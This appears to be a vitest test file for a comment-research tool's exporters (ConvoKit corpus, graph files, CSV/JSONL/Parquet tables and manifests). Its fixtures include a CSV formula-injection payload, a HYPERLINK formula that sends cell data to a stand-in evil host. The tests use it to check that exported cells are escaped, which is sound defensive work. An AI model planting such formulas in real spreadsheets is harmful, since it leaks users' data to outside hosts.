import { writeFileSync } from "node:fs";
import { lstat, mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { DuckDBInstance } from "@duckdb/node-api";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { addInputJob } from "../../src/cli/addInputJob.js";
import { listSamples } from "../../src/cli/samples.js";
import type { ParleyError } from "../../src/errors.js";
import { exportConvoKit } from "../../src/export/exportConvoKit.js";
import { exportGraph } from "../../src/export/exportGraph.js";
import { ExportManifest } from "../../src/export/manifest.js";
import { type ExportFiles, exportTables } from "../../src/export/exportTables.js";
import type { ExportOrder } from "../../src/export/exportOrder.js";
import { verifyExport } from "../../src/export/verifyExport.js";
import { decide } from "../../src/store/decisions.js";
import { EXPORT_TABLES } from "../../src/store/export/tables.js";
import { addAccount } from "../../src/store/reviewers.js";
import { sha256 } from "../../src/thread/identity.js";
import { runStages } from "../../workers/stages.js";
import { makeDatabase, makeShell, type TestDatabase } from "../support/database.js";
import { readXml } from "../support/readXml.js";
import { fillComments } from "../support/fillComments.js";

let database: TestDatabase;
let folder: string;
const PLAIN: ExportOrder = { target: "ukraine-support", withNames: false, withText: false };
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?q="&A1,"see")',
  "+1 to that",
  "-1 from me",
  "@everyone, look",
  "\tTabbed first",
  'Quotes "here", commas, and\r\na line',
  "",
  "Plain words, and a \u{1f6a2}",
];

beforeAll(async () => {
  database = await makeDatabase();
  const { sql } = database;
  folder = await mkdtemp(join(tmpdir(), "parley-export-"));
  const first = await fillComments(sql, 60);
  const [sample] = await listSamples();
  if (sample === undefined) throw new Error("there is no sample");
  const shell = {
    ...makeShell(sql),
    pseudonymise: (site: string, key: string) => `p-${sha256(site + key)}`,
  };
  await runStages(shell, await addInputJob(sql, sample.path, sample.flags, "sample"));
  for (const [at, text] of HOSTILE.entries())
    await sql`update parley.comments set body = ${text} where id = ${first + at}`;
  await sql`update parley.comments set posted_earliest = null, posted_latest = null
    where id = ${first + 20}`;
  const kim = await addAccount(sql, "kim-of-the-desk", "moderator", {
    text: "a password for tests",
    from: "chosen",
  });
  await decide(sql, first, { action: "approve" }, kim);
  await decide(sql, first, { action: "reject", reason: "spam", note: "Seen it before." }, kim);
});
afterAll(async () => {
  await database.drop();
  await rm(folder, { recursive: true });
});

const exportTo = (files: Partial<ExportFiles> & { out: string }, order = PLAIN) =>
  exportTables(database.sql, order, {
    kind: "folder",
    format: "jsonl",
    tables: EXPORT_TABLES,
    ...files,
    out: join(folder, files.out),
  });

const readJsonLines = async (path: string): Promise<Record<string, unknown>[]> =>
  (await readFile(join(folder, path), "utf8"))
    .split("\n")
    .filter(Boolean)
    .map((line) => JSON.parse(line) as Record<string, unknown>);

/** What DuckDB reads, in the shape JSON has. */
async function readParquet(path: string) {
  const duck = await (await DuckDBInstance.create()).connect();
  try {
    const found = await duck.runAndReadAll(`select * from read_parquet('${join(folder, path)}')`);
    const types = Object.fromEntries(
      found.columnNames().map((name, at) => [name, String(found.columnTypes()[at])]),
    );
    return { types, rows: found.getRowObjectsJS() as Record<string, unknown>[] };
  } finally {
    duck.closeSync();
  }
}

const toJson = (value: unknown): unknown => {
  if (typeof value === "bigint") return Number(value);
  return value instanceof Date ? value.toISOString() : value;
};

describe("a ConvoKit corpus", () => {
  it("has the threads as they are stored, one root to a conversation", async () => {
    const { sql } = database;
    const out = join(folder, "corpus");
    const manifest = await exportConvoKit(sql, PLAIN, out);
    expect(manifest.files.map(({ name }) => name).sort()).toEqual([
      "conversations.json",
      "corpus.json",
      "index.json",
      "speakers.json",
      "utterances.jsonl",
    ]);
    const readJson = async (name: string) =>
      JSON.parse(await readFile(join(out, name), "utf8")) as Record<string, object>;
    const utterances = await readJsonLines("corpus/utterances.jsonl");
    const stored = await sql`select id::text, parent_id::text from parley.comments order by 1`;
    const byId = new Map(utterances.map((each) => [each.id, each]));
    expect(utterances.map((each) => [each.id, each["reply-to"]]).sort()).toEqual(
      stored.map((row) => [row.id as unknown, row.parent_id as unknown]).sort(),
    );
    for (const each of utterances) {
      expect(Object.keys(each)).toEqual([
        "id",
        "conversation_id",
        "text",
        "speaker",
        "meta",
        "reply-to",
        "timestamp",
        "vectors",
      ]);
      let top = each;
      while (top["reply-to"] !== null) top = byId.get(top["reply-to"]) ?? {};
      expect(each.conversation_id).toBe(top.id);
      expect(each.text).toBe("");
    }
    const speakers = await readJson("speakers.json");
    for (const { speaker } of utterances) expect(speakers).toHaveProperty([String(speaker)]);
    const conversations = await readJson("conversations.json");
    expect(new Set(Object.keys(conversations))).toEqual(
      new Set(utterances.map((each) => each.conversation_id)),
    );
    const index = await readJson("index.json");
    const { meta } = utterances[0] ?? {};
    expect(Object.keys(index["utterances-index"] ?? {})).toEqual(Object.keys(meta ?? {}));
    const { files } = await verifyExport(join(out, "manifest.json"));
    expect(files.every(({ state }) => state === "same")).toBe(true);
  });

  it("holds a reply whose parent is out of the period as a conversation of its own", async () => {
    const since = new Date("2026-01-01T00:30:00Z");
    await exportConvoKit(
      database.sql,
      { ...PLAIN, withText: true, site: "filled.example", since },
      join(folder, "late"),
    );
    const utterances = await readJsonLines("late/utterances.jsonl");
    const roots = utterances.filter((each) => each["reply-to"] === null);
    expect(roots.map((each) => each.conversation_id)).toEqual(roots.map((each) => each.id));
    expect(roots.length).toBeGreaterThan(0);
    expect(utterances.length).toBeGreaterThan(roots.length);
    expect(utterances[0]?.text).toContain("keel");
  });
});

describe("a graph", () => {
  const write = async (format: "graphml" | "gexf", graph: "commenters" | "comments") => {
    const out = join(folder, `${graph}.${format}`);
    await exportGraph(database.sql, { ...PLAIN, withText: true }, { out, format, graph });
    return readXml(await readFile(out, "utf8"));
  };

  it.each(["graphml", "gexf"] as const)(
    "of the trees is whole and well-formed: %s",
    async (format) => {
      const { root, all } = await write(format, "comments");
      expect(root.name).toBe(format);
      const count = (name: string) => all.filter((each) => each.name === name).length;
      const [stored] = await database.sql`
      select count(*)::int as nodes, count(parent_id)::int as edges from parley.comments`;
      expect({ nodes: count("node"), edges: count("edge") }).toEqual(stored);
      const ids = new Set(
        all.filter(({ name }) => name === "node").map((each) => each.attributes.id),
      );
      expect(ids.size).toBe(stored?.nodes);
      const declared = new Set(
        all
          .filter(({ name }) => ["key", "attribute"].includes(name))
          .map((each) => each.attributes.id),
      );
      for (const { name, attributes } of all) {
        if (name === "edge") {
          expect(ids).toContain(attributes.source);
          expect(ids).toContain(attributes.target);
        }
        const of = attributes.key ?? (name === "attvalue" ? attributes.for : undefined);
        if (of !== undefined) expect(declared).toContain(of);
      }
      const words = all.flatMap(({ text, attributes }) => [text, attributes.value ?? ""]);
      expect(words).toContain(HOSTILE[0]);
    },
  );

  it("says with which versions its nodes and edges were made", async () => {
    const out = join(folder, "versions.gexf");
    const place = { out, format: "gexf", graph: "comments" } as const;
    const { files } = await exportGraph(database.sql, PLAIN, place);
    const [stored] = await database.sql`
      select (select count(*)::int from parley.comments) as comments,
        (select count(*)::int from parley.comment_scores s join parley.comments c on c.id = s.comment_id
          where s.measure = 'reply' and c.parent_id is not null) as relations`;
    const sum = (counts: Record<string, number> = {}) =>
      Object.values(counts).reduce((all, count) => all + count, 0);
    const { versions } = files[0] ?? {};
    expect(sum(versions?.parser)).toBe(stored?.comments);
    expect(sum(versions?.relation_scorer)).toBe(stored?.relations);
    expect(stored?.relations).toBeGreaterThan(0);
  });

  it("of people weighs who answers whom by how sure the parents are", async () => {
    const { all } = await write("gexf", "commenters");
    const edges = all.filter(({ name }) => name === "edge");
    const [stored] = await database.sql`
      select sum(c.parent_confidence)::float8 as weight, count(distinct (c.commenter_id, q.commenter_id))::int as pairs
      from parley.comments c join parley.comments q on q.id = c.parent_id
      where c.commenter_id is not null and q.commenter_id is not null`;
    expect(edges).toHaveLength(Number(stored?.pairs));
    const weight = edges.reduce((sum, { attributes }) => sum + Number(attributes.weight), 0);
    expect(weight).toBeCloseTo(Number(stored?.weight), 3);
    expect(JSON.stringify(all)).not.toContain("Hand 1");
  });
});

describe("an export of tables", () => {
  it("is the same rows in every format, as DuckDB and a CSV reader find them", async () => {
    const order = { ...PLAIN, withNames: true, withText: true };
    await exportTo({ out: "all-jsonl" }, order);
    await exportTo({ out: "all-parquet", format: "parquet" }, order);
    await exportTo({ out: "all-csv", format: "csv" }, order);
    for (const { name, columns } of EXPORT_TABLES) {
      const stated = await readJsonLines(`all-jsonl/${name}.jsonl`);
      expect(stated.length, name).toBeGreaterThan(0);
      const { rows } = await readParquet(`all-parquet/${name}.parquet`);
      expect(
        rows.map((row) => Object.fromEntries(Object.entries(row).map(([k, v]) => [k, toJson(v)]))),
      ).toEqual(stated);
      const records: string[][] = parse(await readFile(join(folder, `all-csv/${name}.csv`)));
      const [head, ...lines] = records;
      expect(head).toEqual(columns.map((column) => column.name));
      const cell = (value: unknown): string => {
        if (value === null) return "";
        const text = typeof value === "string" ? value : JSON.stringify(value);
        return typeof value === "string" && /^[=+@\t\r-]/.test(text) ? `'${text}` : text;
      };
      expect(lines).toEqual(stated.map((row) => Object.values(row).map(cell)));
    }
    const { types } = await readParquet("all-parquet/comments.parquet");
    expect(types).toMatchObject({
      comment_id: "BIGINT",
      posted_earliest_at: "TIMESTAMP WITH TIME ZONE",
      incivility: "DOUBLE",
      is_truncated: "BOOLEAN",
      flag_rules: "VARCHAR[]",
    });
  });

  it("has neither names nor words unless they are asked for", async () => {
    const { sql } = database;
    const manifest = await exportTo({ out: "plain" });
    expect(manifest).toMatchObject({ withNames: false, withText: false });
    let all = "";
    for (const name of await readdir(join(folder, "plain")))
      all += await readFile(join(folder, "plain", name), "utf8");
    const secret = await sql`
      select author as word from parley.comments where length(author) > 5
      union select author_key from parley.commenters where author_key ~ '^a-'
      union select left(body, 40) from parley.comments where length(body) > 30
      union select name from parley.reviewers where length(name) > 5`;
    expect(secret.length).toBeGreaterThan(50);
    // Not `toContain`: it would show all of the export.
    expect(secret.filter(({ word }) => all.includes(String(word)))).toEqual([]);
    const named = await exportTo({ out: "named" }, { ...PLAIN, withNames: true });
    expect(named.withNames).toBe(true);
    expect((await readJsonLines("named/comments.jsonl"))[0]).toHaveProperty("author");
  });

  it("is the same bytes of the same rows, and says which in its manifest", async () => {
    for (const format of ["csv", "jsonl", "parquet"] as const) {
      const one = await exportTo({ out: `one-${format}`, format });
      const two = await exportTo({ out: `two-${format}`, format });
      expect(two.files).toEqual(one.files);
      const { manifest, files } = await verifyExport(join(folder, `one-${format}/manifest.json`));
      expect(manifest).toEqual(one);
      expect(files.every(({ state }) => state === "same")).toBe(true);
    }
    const path = join(folder, "one-csv");
    await writeFile(join(path, "flags.csv"), "changed");
    await rm(join(path, "decisions.csv"));
    const { files } = await verifyExport(join(path, "manifest.json"));
    expect(files.filter(({ state }) => state !== "same")).toEqual([
      { name: "flags.csv", state: "changed" },
      { name: "decisions.csv", state: "missing" },
    ]);
  });

  it("counts what the discussions hold, by the rows themselves", async () => {
    const { coverage, files } = await exportTo({ out: "counted" });
    const rows = await readJsonLines("counted/comments.jsonl");
    const count = (test: (row: Record<string, unknown>) => boolean) => rows.filter(test).length;
    expect(coverage).toMatchObject({
      articles: 2,
      comments: rows.length,
      commentsUndated: count((row) => row.posted_earliest_at === null),
      commentsTruncated: count((row) => row.is_truncated === true),
      parentsInferred: count((row) => row.parent_evidence === "inferred"),
      parentsByReplyLine: count((row) => row.parent_evidence === "reply-line"),
    });
    expect(coverage?.commentsDeclared).toBeGreaterThan(0);
    const { versions } = files.find(({ table }) => table === "comments") ?? {};
    expect(Object.values(versions?.incivility_scorer ?? {})).toEqual([
      count((row) => row.incivility_scorer !== null),
    ]);
    expect(Object.keys(versions ?? {})).toContain("parser");
  });

  it("holds the decision that is in force, and every one there was", async () => {
    const [decided] = (await readJsonLines("counted/comments.jsonl")).filter(
      (row) => row.decision !== null,
    );
    expect(decided).toMatchObject({ decision: "reject" });
    const rows = await readJsonLines("counted/decisions.jsonl");
    expect(rows.map((row) => [row.action, row.is_in_force])).toEqual([
      ["approve", false],
      ["reject", true],
    ]);
  });

  it("is narrowed by site, article and period", async () => {
    const ids = async (out: string, filters: Partial<ExportOrder>) => {
      await exportTo({ out }, { ...PLAIN, ...filters });
      return (await readJsonLines(`${out}/comments.jsonl`)).map((row) => row.ordinal as number);
    };
    expect(await ids("site", { site: "filled.example" })).toHaveLength(60);
    expect(await ids("article", { article: "https://filled.example/a/" })).toHaveLength(60);
    expect(await ids("none", { site: "other.example" })).toEqual([]);
    const since = new Date("2026-01-01T00:10:00Z");
    const until = new Date("2026-01-01T00:25:00Z");
    const found = await ids("period", { site: "filled.example", since, until });
    expect(found).toEqual([10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20, 22, 23, 24]);
    const { rows } = await (async () => {
      await exportTo(
        { out: "none-parquet", format: "parquet" },
        { ...PLAIN, site: "other.example" },
      );
      return readParquet("none-parquet/comments.parquet");
    })();
    expect(rows).toEqual([]);
  });

  it("leaves nothing where it is stopped, and writes over no folder", async () => {
    const stop = new AbortController();
    const stopped = exportTo(
      { out: "stopped", tables: EXPORT_TABLES.slice(0, 2) },
      {
        ...PLAIN,
        signal: stop.signal,
        onRows: () => {
          stop.abort();
        },
      },
    );
    await expect(stopped).rejects.toThrow(/abort/i);
    expect((await readdir(folder)).filter((name) => name.includes("stopped"))).toEqual([]);
    await expect(exportTo({ out: "counted" })).rejects.toMatchObject({
      code: "OUTPUT_NOT_WRITABLE",
    });
    await expect(exportTo({ out: "no/such/place" })).rejects.toMatchObject({
      code: "OUTPUT_NOT_WRITABLE",
    });
  });

  it("deletes nothing that came while it was written, and says where it is itself", async () => {
    const out = join(folder, "taken");
    await mkdir(out);
    const thrown: unknown = await exportTo(
      { out: "taken", tables: EXPORT_TABLES.slice(0, 2) },
      {
        ...PLAIN,
        onRows: () => {
          writeFileSync(join(out, "mine.txt"), "not yours");
        },
      },
    ).catch((error: unknown) => error);
    expect(thrown).toMatchObject({ code: "OUTPUT_NOT_WRITABLE" });
    expect(await readFile(join(out, "mine.txt"), "utf8")).toBe("not yours");
    const [, whole = ""] = /is whole in (.*): /.exec((thrown as ParleyError).hint) ?? [];
    const { files } = await verifyExport(join(whole, "manifest.json"));
    expect(files.map(({ state }) => state)).toEqual(["same", "same"]);
  });

  it("fills the empty folder that a link leads to", async () => {
    await mkdir(join(folder, "far"));
    await symlink(join(folder, "far"), join(folder, "near"));
    await exportTo({ out: "near", tables: EXPORT_TABLES.slice(0, 1) });
    expect((await readdir(join(folder, "far"))).sort()).toEqual([
      "comments.jsonl",
      "manifest.json",
    ]);
    expect((await lstat(join(folder, "near"))).isSymbolicLink()).toBe(true);
  });

  it("writes one table as a file with its manifest beside it", async () => {
    const [comments] = EXPORT_TABLES;
    if (comments === undefined) throw new Error("there are no tables");
    await exportTo({ out: "one.csv", kind: "file", format: "csv", tables: [comments] });
    const manifest = ExportManifest.parse(
      JSON.parse(await readFile(join(folder, "one.csv.manifest.json"), "utf8")),
    );
    expect(manifest.files.map(({ name }) => name)).toEqual(["one.csv"]);
    await expect(verifyExport(join(folder, "one.csv"))).rejects.toMatchObject({
      code: "MANIFEST_INVALID",
    });
  });
});
